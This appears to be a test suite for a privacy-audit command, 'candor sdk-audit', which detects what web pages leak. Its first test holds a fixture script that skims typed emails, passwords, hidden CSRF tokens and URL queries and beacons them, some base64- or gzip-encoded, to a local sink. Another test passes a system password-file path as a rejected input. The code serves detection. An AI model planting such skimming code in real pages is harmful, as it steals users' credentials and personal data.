// candor sdk-audit against pages on this machine: one that gives away what it sees, in every
// wrapping, one with Candor's SDK, one with Mixpanel's; and no browser, no page, no address.
import assert from 'node:assert/strict';
import http from 'node:http';
import { once } from 'node:events';
import { after, before, describe, test } from 'node:test';
import { Site } from './support/page.mjs';
import { SdkSite } from './support/sdk-site.mjs';
import { candor } from './support/server.mjs';

const FORM = `<form action="/gone"><input name="mail"><input name="pw" type="password">
<textarea name="note"></textarea><select name="kind"><option>a</select>
<input type="hidden" name="csrf" value="1"><div contenteditable id="pad">x</div>
<button>Sign in</button></form><a href="/gone" id="away">Away</a>`;

let sink; // takes whatever is sent, from any page
let asked; // paths that the sink was asked for

before(async () => {
    asked = [];
    sink = http.createServer((request, answer) => {
        asked.push(request.url.split('?')[0]);
        request.resume();
        request.on('end', () => {
            answer.writeHead(200, {
                'Access-Control-Allow-Origin': '*', 'Content-Type': 'application/json',
            });
            answer.end(request.method === 'GET' ? '{}' : '1');
        });
    });
    sink.listen(0, '127.0.0.1');
    await once(sink, 'listening');
    sink.origin = `http://127.0.0.1:${sink.address().port}`;
});
after(() => {
    sink.close();
    sink.closeAllConnections();
});

async function audit(url, flags = []) {
    const { code, stdout, stderr } = await candor(['sdk-audit', url, '--wait', '1', '--json',
        ...flags]);
    assert.ok(code === 0 || code === 1, stderr);
    return { code, ...JSON.parse(stdout) };
}

async function withSite(body, run) {
    const site = await SdkSite.open();
    try {
        site.page('/', body);
        return await run(site);
    } finally {
        site.close();
    }
}

describe('sdk-audit', () => {
    test('finds what a page gives away, where it was planted, and how it was wrapped', async () => {
        const leaky = `${FORM}<script>
const sink = '${sink.origin}';
const post = (path, body) => fetch(sink + path, { method: 'POST', body });
addEventListener('change', async ({ target }) => {
    if (target.name === 'mail') fetch(sink + '/get?v=' + encodeURIComponent(btoa('mail ' + target.value)));
    if (target.name === 'pw') {
        const packed = new Blob([JSON.stringify({ v: target.value })]).stream()
            .pipeThrough(new CompressionStream('gzip'));
        post('/gzip', await new Response(packed).arrayBuffer());
    }
    if (target.name === 'note') post('/plain', JSON.stringify({ v: target.value.toUpperCase() }));
    if (target.name === 'kind') navigator.sendBeacon(sink + '/beacon', target.value);
});
addEventListener('click', ({ target }) => {
    if (target.id === 'away') post('/attribute', JSON.stringify([target.title, target.dataset.audit]));
});
addEventListener('submit', ({ target }) =>
    navigator.sendBeacon(sink + '/form', new Blob([new FormData(target).get('csrf')])));
addEventListener('pagehide', () => navigator.sendBeacon(sink + '/bye', location.search));
</script>`;
        const found = await withSite(leaky, ({ origin }) => audit(`${origin}/`));
        const told = new Map(found.leaks.map((leak) => [leak.place, leak.encoding]));
        assert.equal(found.code, 1);
        const expected = {
            'typed: input text mail': /base64/, 'typed: input password pw': /^gzip$/,
            'typed: textarea textarea note': /^plain$/, 'option: select select-one kind': /^plain$/,
            'title: a away': /^plain$/, 'data-audit: a away': /^plain$/,
            'hidden: input hidden csrf': /^plain$/, 'address: query': /^plain$/,
        };
        for (const [place, encoding] of Object.entries(expected)) {
            assert.match(told.get(place) ?? 'not found', encoding, place);
        }
        assert.equal(told.size, Object.keys(expected).length);
        assert.ok(found.leaks.every((leak) => `http://${leak.host}` === sink.origin));
        assert.ok(!asked.includes('/gone'));
    });

    test('Candor’s own SDK gives nothing away, and is not silent', async () => {
        const page = `${FORM}<script>candor.init({ key: 'k', host: '${sink.origin}',
            autocapture: true })</script>`;
        const count = asked.length;
        const found = await withSite(page, ({ origin }) => audit(`${origin}/`));
        assert.deepEqual(found.leaks, []);
        assert.equal(found.code, 0);
        assert.ok(found.canaries > 20);
        assert.ok(asked.slice(count).includes('/track'));
    });

    test('it works on pages of other SDKs, here Mixpanel’s with the address in every event', async () => {
        const site = await Site.open();
        const [serve] = site.server.listeners('request');
        site.server.removeAllListeners('request');
        site.server.on('request', (request, answer) => {
            if (!request.url.startsWith('/?')) return serve(request, answer);
            answer.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
            return answer.end(`<!doctype html><script>MIXPANEL_CUSTOM_LIB_URL='/mixpanel.js'</script>
<script src="/snippet.js"></script><body>${FORM}<script>mixpanel.init('k', {
    api_host: '${sink.origin}', autocapture: true, persistence: 'localStorage' });
mixpanel.track('Seen');</script>`);
        });
        const found = await audit(`${site.origin}/`).finally(() => site.close());
        assert.equal(found.code, 1);
        assert.ok(found.leaks.some((leak) => leak.place === 'address: query'));
    });

    test('the table for people says the same', async () => {
        const page = `<h1 title="x">Hi</h1><script>fetch('${sink.origin}/t' + location.search)</script>`;
        const { code, stdout } = await withSite(page, ({ origin }) =>
            candor(['sdk-audit', `${origin}/`, '--wait', '0']));
        assert.equal(code, 1);
        assert.match(stdout, /^planted in +left to +as +times\naddress: query +127\.0\.0\.1:\d+ +plain +1\n\d+ texts planted, \d+ requests, 1 leaks\n$/);
    });

    test('what cannot be done is a 2 and one line', async () => {
        for (const [words, pattern] of [
            [['file:///etc/passwd'], /begins with http/], [['http://x/', '--wait', 'x'], /--wait/],
            [[], /URL is missing/], [['http://127.0.0.1:1/'], /could not be loaded/],
            [['http://127.0.0.1:1/', '--chromium', '/nowhere/chromium'], /install Chromium/],
        ]) {
            const { code, stdout, stderr } = await candor(['sdk-audit', ...words]);
            assert.equal(code, 2, words.join(' '));
            assert.equal(stdout, '');
            assert.match(stderr, pattern);
            assert.equal(stderr.trim().split('\n').length, 1);
        }
        const { code } = await candor(['sdk-audit', 'http://127.0.0.1:1/'], {
            environment: { PATH: '/nowhere' },
        });
        assert.equal(code, 2);
    });
});
